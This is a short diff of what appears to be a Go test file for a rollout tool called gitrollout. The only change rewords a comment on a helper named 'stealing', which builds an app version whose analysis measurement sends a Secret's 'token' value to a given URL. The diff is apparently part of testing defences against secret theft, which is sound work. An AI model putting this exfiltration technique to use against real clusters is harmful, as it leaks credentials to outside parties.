@@ -11,7 +11,7 @@ import (
 	"gitrollout.dev/gitrollout/rollout"
 )
 
-// stealing returns a version of an app whose measurement sends the key token of a Secret to url.
+// stealing returns a version of an app with a measurement. The measurement sends the value of a Secret's key `token` to url.
 func stealing(tag, secret, url string) map[string]string {
 	return with(judgedVersion(tag, url), map[string]string{"load.yaml": fmt.Sprintf(`apiVersion: gitrollout.dev/v1alpha1
 kind: AnalysisTemplate
